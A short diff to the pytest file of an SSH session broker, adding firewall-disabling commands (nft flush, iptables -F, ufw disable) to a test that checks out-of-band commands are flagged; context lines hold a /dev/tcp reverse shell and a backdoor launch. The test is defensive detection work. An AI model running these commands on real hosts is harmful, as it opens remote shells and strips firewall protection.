@@ -27,6 +27,10 @@ from jit_ssh.broker.flags import MAX_FLAGS, flags_in_command, flags_in_output, f
         ("nohup ./backdoor &", "detached process"),
         ("setsid bash -c 'sleep 100'", "detached process"),
         ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse shell: /dev/tcp"),
+        ("nft delete table inet jit_ssh", "firewall changed"),
+        ("nft flush ruleset", "firewall changed"),
+        ("iptables -F", "firewall changed"),
+        ("ufw disable", "firewall changed"),
     ],
 )
 def test_out_of_band_commands_are_flagged(command: str, flag: str) -> None:
